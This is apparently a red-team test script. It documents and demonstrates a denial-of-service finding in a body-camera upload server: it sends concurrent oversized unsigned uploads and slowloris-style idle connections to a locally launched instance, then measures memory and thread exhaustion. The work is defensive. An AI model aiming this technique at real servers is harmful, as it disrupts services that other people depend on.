"""Finding (medium, attacker a: anonymous caller on the site's network): the body-worn camera
upload endpoint (``safecity node uploads``, ``POST /bodycam/clips``) reads the whole body into
memory before it looks at the claim headers, and has no socket timeout and no bound on
concurrent uploads. SECURITY.md (boundary 6) says the ``bodycam_max_mb`` cap protects against
"memory or disk filled by one request" -- but nothing stops N requests at once, each up to the
cap (default 512 MiB), all read in full and only then refused ``unsigned``; and a caller who
announces a large ``Content-Length`` and then sends nothing holds a thread for ever.

This script runs the real ``safecity node uploads`` process (its own config, vault initialised,
``bodycam_max_mb = 48``), then, with no key and no claim at all:
  1. sends UPLOADS concurrent bodies of 48 MiB, each refused ``unsigned``: the server's peak
     resident memory (VmHWM) climbs by about UPLOADS x 48 MiB;
  2. opens SLOW connections that announce 48 MiB and send nothing: after HOLD seconds every one
     still holds a server thread (``Threads`` in /proc), never timed out.

Run: PYTHONPATH=$PWD /work/main/.venv/bin/python redteam/bodycam_unsigned_body_read.py
Exit 1 = the unsigned bodies were read into memory and the idle connections held (the finding),
0 = refused before reading / timed out.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

from nodes.config import load_settings
from nodes.vault.site import initialise
from privacy.signing import SigningKey

MAX_MB, UPLOADS, SLOW, HOLD = 48, 6, 40, 8


def proc_status(pid: int, field: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise KeyError(field)


def unsigned_upload(port: int, answers: list[str]) -> None:
    with socket.create_connection(("127.0.0.1", port)) as s:
        size = MAX_MB * 2**20
        s.sendall(f"POST /bodycam/clips HTTP/1.1\r\nHost: x\r\nContent-Length: {size}\r\n"
                  "Content-Type: video/mp4\r\n\r\n".encode())
        chunk = b"\0" * 2**20
        for _ in range(MAX_MB):
            s.sendall(chunk)
        answers.append(s.recv(4096).split(b"\r\n", 1)[0].decode())


def main() -> int:
    root = Path(tempfile.mkdtemp(prefix="rt-bodycam-"))
    config = root / "node.toml"
    config.write_text(f'site_id = "site-a"\ndata_dir = "{root / "data"}"\n'
                      f'bodycam_max_mb = {MAX_MB}\nbodycam_port = 0\n'
                      '[[body_cameras]]\nid = "officer-17"\n'
                      f'public_key = "{SigningKey.generate().public.text()}"\n')
    initialise(load_settings(config))
    command = [sys.executable, "-c", "from nodes.cli import main; main()", "node", "uploads",
               "--config", str(config)]
    server = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                              text=True, env=os.environ.copy())
    try:
        assert server.stdout is not None
        url = json.loads(server.stdout.readline())["uploads"]
        port = int(url.rsplit(":", 1)[1].split("/")[0])
        time.sleep(1)
        base = proc_status(server.pid, "VmHWM")
        print(f"safecity node uploads pid {server.pid} at {url}; peak RSS {base // 1024} MiB")

        answers: list[str] = []
        threads = [threading.Thread(target=unsigned_upload, args=(port, answers))
                   for _ in range(UPLOADS)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        peak = proc_status(server.pid, "VmHWM")
        grew = (peak - base) // 1024
        print(f"{UPLOADS} concurrent unsigned {MAX_MB} MiB uploads answered {set(answers)}; "
              f"server peak RSS {peak // 1024} MiB (+{grew} MiB, "
              f"{UPLOADS * MAX_MB} MiB sent)")

        idle_threads = proc_status(server.pid, "Threads")
        slow = []
        for _ in range(SLOW):
            s = socket.create_connection(("127.0.0.1", port))
            s.sendall(f"POST /bodycam/clips HTTP/1.1\r\nHost: x\r\n"
                      f"Content-Length: {MAX_MB * 2**20}\r\n\r\n".encode())
            slow.append(s)
        time.sleep(HOLD)
        held = proc_status(server.pid, "Threads") - idle_threads
        alive = 0
        for s in slow:
            s.settimeout(0.05)
            try:
                s.recv(1)  # closed or answered: not held
            except TimeoutError:
                alive += 1  # the server neither answered nor closed
            s.close()
        print(f"{SLOW} connections announcing {MAX_MB} MiB, then silent: after {HOLD} s the "
              f"server holds {held} more threads, {alive} connections still open")
        found = grew >= (UPLOADS - 1) * MAX_MB // 2 and alive == SLOW
        print("FINDING: unsigned bodies read into memory before any check; idle uploads never "
              "time out" if found else "held")
        return 1 if found else 0
    finally:
        server.terminate()
        server.wait(10)


if __name__ == "__main__":
    sys.exit(main())
